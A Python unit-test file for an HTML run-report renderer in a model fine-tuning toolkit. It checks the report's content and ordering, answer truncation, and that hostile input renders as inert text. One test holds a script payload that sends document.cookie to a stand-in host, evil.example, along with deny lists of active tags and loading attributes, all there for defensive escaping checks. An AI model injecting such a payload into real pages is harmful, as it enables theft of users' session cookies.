"""The run report as a document: what stands in it, and that nothing from outside gets out of its text."""

from dataclasses import replace
from html.parser import HTMLParser

import pytest

from anneal_api.curve import curve_of
from anneal_trainer import run_report
from anneal_trainer.run_report import RunReport, render
from tests.unit.trainer.reports import good_report, hostile_report, progress

ACTIVE = {"script", "iframe", "img", "link", "base", "object", "embed", "form", "a", "audio", "video", "source"}
LOADING = {"src", "href", "srcset", "action", "data", "poster", "background"}


class Page(HTMLParser):
    """Elements, attributes and visible text of a page."""

    def __init__(self, page: bytes) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.styles, self.texts, self._styling = list[str](), list[str](), False
        self.feed(page.decode())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs
        self._styling = tag == "style"

    def handle_data(self, data: str) -> None:
        (self.styles if self._styling else self.texts).append(data)

    def handle_endtag(self, tag: str) -> None:
        self._styling = False

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.texts).split())


def page_of(report: RunReport) -> Page:
    return Page(render(report))


def test_it_tells_what_was_done_and_what_came_of_it() -> None:
    text = page_of(good_report()).text
    for wanted in (
        "The tuned model answers 3 of 5 prompts right; the base model answered 2.",
        "Held-out perplexity 3.07 -78%",
        "+20 points",
        "How long is the warranty on the Ridge 2 tent?",
        "The Ridge 2 tent has a warranty of 5 years",
        "I do not know that product.",
        "training 455 validation 30 test 40 dropped 7",
        "prepare 41 s train 4 min 42 s evaluate 1 min 32 s",
        "8 min 3 s in all; 1 min 8 s between the stages (queues, images, pods)",
        "the first step was done after 2 min 2 s.",
        "training.learningRate 0.0002",
        "evaluated with vllm 0.11.0",
        "Run 4f1f0c2d9b7a6e35 of FineTuneJob default/support",
    ):
        assert wanted in text


def test_the_interesting_answers_come_first() -> None:
    text = page_of(good_report()).text
    order = [text.index(prompt) for prompt in ("Do you ship", "How long is", "Wie reinige", "Can I return")]
    assert order == sorted(order)
    assert "All 5 Got worse 1 Got better 2 Still wrong 1 Right before and after 1" in text


def test_a_run_without_evaluation_times_or_environment_has_a_report_too() -> None:
    report = good_report()
    bare = replace(report, manifest=report.manifest.model_copy(update={"evaluation": None}), answers=[], environment={},
                   stages=[stage.model_copy(update={"started": ""}) for stage in report.stages])  # fmt: skip
    page = page_of(bare)
    assert "The training loss went from 3.15 to 0.66 in 120 steps." in page.text
    for absent in ("Answers, before and after", "Where the time went", "Environment"):
        assert absent not in page.text


def test_hostile_texts_stay_texts() -> None:
    page = page_of(hostile_report())
    assert ACTIVE.isdisjoint(page.tags)
    assert not {name for name, _ in page.attributes if name in LOADING or name.startswith("on")}
    assert "evil.example" not in "".join(page.styles)
    assert "49" not in page.text
    assert '<script>fetch("https://evil.example/"+document.cookie)</script>' in page.text


def test_nothing_is_loaded_from_anywhere() -> None:
    page = page_of(good_report())
    policy = "default-src 'none'; style-src 'unsafe-inline'"
    assert ("content", policy) in page.attributes
    assert ACTIVE.isdisjoint(page.tags)
    assert "url(" not in "".join(page.styles)
    assert "@import" not in "".join(page.styles)


def test_long_answers_and_many_answers_are_cut_and_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(run_report, "SHOWN_ANSWERS", 2)
    monkeypatch.setattr(run_report, "SHOWN_CHARACTERS", 10)
    text = page_of(good_report()).text
    assert "2 of 5 are shown; all of them are in answers.jsonl beside this file." in text
    assert "Do you shi … (12 more characters in answers.jsonl)" in text


def test_the_curve_is_that_of_the_card_and_of_plot() -> None:
    from anneal_api.curve import svg

    assert svg("Loss", curve_of(progress())) in render(good_report()).decode()


def test_a_perplexity_that_rose_is_bad_and_a_share_that_rose_is_good() -> None:
    assert b'"badge bad">+33%' in render(hostile_report())
    assert b'"badge good">+20 points' in render(good_report())
